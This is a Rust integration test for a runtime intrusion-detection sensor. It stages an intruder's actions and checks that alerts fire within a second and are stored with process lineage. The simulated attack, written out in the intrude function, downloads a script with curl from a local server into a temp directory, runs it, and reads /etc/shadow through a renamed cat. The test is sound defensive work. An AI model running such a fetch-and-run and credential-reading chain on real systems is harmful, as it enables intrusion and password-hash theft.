//! The main job: a download below /tmp, its run, and a copy of cat on /etc/shadow are told within a second, and stand in
//! the store with where they came from.

use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::Value;
use sqlx::Row;

use crate::support::{
    Database, Line, Place, Stage, alone, field, has_program, has_sensor, loopback_server, run, text_of,
};

const DOWNLOAD: &str = "Download tool writes to a temporary directory";
const RUN: &str = "Program run from a temporary directory";
const READ: &str = "Sensitive file read by an unexpected program";

/// The scene: what an intruder does, in a shell of its own.
pub(crate) fn intrude() -> String {
    let dir = std::env::current_dir().unwrap().display().to_string();
    let port = loopback_server("#!/bin/sh\nexit 0\n");
    let script = format!(
        "curl -q --silent --noproxy '*' -o {dir}/evil.sh http://127.0.0.1:{port}/evil.sh && chmod +x {dir}/evil.sh && \
         {dir}/evil.sh now; {dir}/kitten /etc/shadow"
    );
    let status = Command::new("sh").arg("-c").arg(&script).stdout(Stdio::null()).status().unwrap();
    assert!(status.success(), "{script}");
    script
}

#[test]
fn three_acts_of_an_intruder_are_told_within_a_second() {
    let test = "three acts of an intruder";
    if !has_sensor(test) || !has_program("curl", test) || !Path::new("/etc/shadow").exists() {
        return;
    }
    let _alone = alone();
    let place = Place::new();
    std::fs::copy("/bin/cat", place.path("kitten")).unwrap();
    let mut stage = Stage::new("intrusion", &place);
    let player = stage.pid;
    let agent = place.watch_stage::<&str>(&stage, []);
    stage.begin();
    let script = stage.end();

    let evil = place.path("evil.sh").display().to_string();
    let kitten = place.path("kitten").display().to_string();
    let fired = |rule: &'static str, key: &'static str, value: &str| {
        let (alert, line) = agent.alert(rule, |a| a["rule"] == rule && field(a, key).contains(value));
        println!("{rule}: after {} ms", delay_ms(&alert, &line));
        assert!(delay_ms(&alert, &line) < 1000, "{rule} came late: {}", line.text);
        assert_eq!(field(&alert, "user.name"), "root");
        assert_eq!(field(&alert, "proc.pname"), "sh", "{alert:#}");
        assert_eq!(field(&alert, "proc.pcmdline"), format!("sh -c {script}"));
        assert_eq!(text_of(&alert["hostname"]), place.marker());
        alert
    };
    let download = fired(DOWNLOAD, "fd.name", &evil);
    assert_eq!(field(&download, "proc.name"), "curl");
    let command = field(&download, "proc.cmdline");
    assert!(
        command.starts_with(&format!("curl -q --silent --noproxy * -o {evil} http://127.0.0.1:")),
        "{command}"
    );

    let ran = fired(RUN, "evt.arg.filename", &evil);
    assert_eq!(field(&ran, "proc.name"), "evil.sh");
    assert!(field(&ran, "proc.cmdline").ends_with(&format!("{evil} now")), "{ran:#}");

    let read = fired(READ, "proc.exepath", &kitten);
    assert_eq!(field(&read, "proc.name"), "kitten");
    assert_eq!(field(&read, "proc.cmdline"), "kitten /etc/shadow");
    assert_eq!(field(&read, "fd.name"), "/etc/shadow");

    assert_eq!(agent.stop().code, Some(0));
    stored(&place, player, &[(DOWNLOAD, "curl"), (RUN, "evil.sh"), (READ, "kitten")]);
}

/// Milliseconds between the kernel's observation and the line in the test's hands.
fn delay_ms(alert: &Value, line: &Line) -> u64 {
    let happened = alert["output_fields"]["evt.time"].as_u64().unwrap();
    line.wall_ns.saturating_sub(happened) / 1_000_000
}

/// Each alert is found in the store by a condition, and its ancestors are there up to the one who started it all.
fn stored(place: &Place, player: u32, expected: &[(&str, &str)]) {
    for (rule, name) in expected {
        let condition = format!(
            "alert.rule = \"{rule}\" and proc.name = {name} and proc.pcmdline contains \"{}\"",
            place.marker()
        );
        let found = run(place.eyas().args(["alerts", "--json", "--where", &condition])).ended(0).json_lines();
        assert_eq!(found.len(), 1, "{condition}: {found:#?}");
        let lineage = field(&found[0], "proc.aname");
        assert!(lineage.starts_with("sh"), "{lineage}");
    }
    let mut database = Database::open(&place.store());
    let rows = database.rows(
        "SELECT a.rule, a.proc_name, p.pid FROM alerts a, json_each(a.ancestors) j JOIN processes p ON p.id = j.value",
    );
    for (rule, name) in expected {
        let pids: Vec<i64> = rows
            .iter()
            .filter(|row| row.get::<&str, _>(0) == *rule && row.get::<&str, _>(1) == *name)
            .map(|row| row.get(2))
            .collect();
        assert!(
            pids.len() >= 2 && pids.contains(&i64::from(player)),
            "{rule}: ancestors {pids:?}, the player is {player}"
        );
    }
}
